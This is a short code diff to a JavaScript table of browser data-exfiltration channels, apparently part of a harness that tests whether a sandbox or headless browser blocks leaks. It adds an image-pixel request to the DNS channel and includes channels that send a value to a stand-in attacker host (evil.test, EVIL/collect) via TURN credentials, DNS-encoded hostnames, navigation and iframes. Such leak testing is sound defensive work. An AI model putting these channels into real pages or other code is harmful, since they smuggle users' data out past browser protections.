@@ -40,9 +40,14 @@ const CHANNELS = {
   stun: (value) => peer({
     urls: `turn:evil.test:${document.querySelector("#stun").textContent}?transport=udp`, username: value, credential: "x",
   }),
-  dns: (value) => { link("dns-prefetch", `//${inName(value)}`); link("preconnect", `https://${inName(value)}`); },
-  // More than the twelve: a look-up alone, and ways that are easily forgotten.
-  "dns-only": (value) => link("dns-prefetch", `//${inName(value)}`),
+  // The value is in the name that is looked up. chromium-headless-shell ignores both hints (it has no handler for
+  // them), so the look-up that always happens is that of a request; what its path says does not matter.
+  dns: (value) => {
+    link("dns-prefetch", `//${inName(value)}`);
+    link("preconnect", `https://${inName(value)}`);
+    new Image().src = `https://${inName(value)}/pixel`;
+  },
+  // More than the twelve: ways that are easily forgotten.
   navigate: (value) => location.assign(`${EVIL}/collect?value=${escaped(value)}`),
   frame: (value) => document.body.append(
     Object.assign(document.createElement("iframe"), { src: `${EVIL}/collect?value=${escaped(value)}` })),
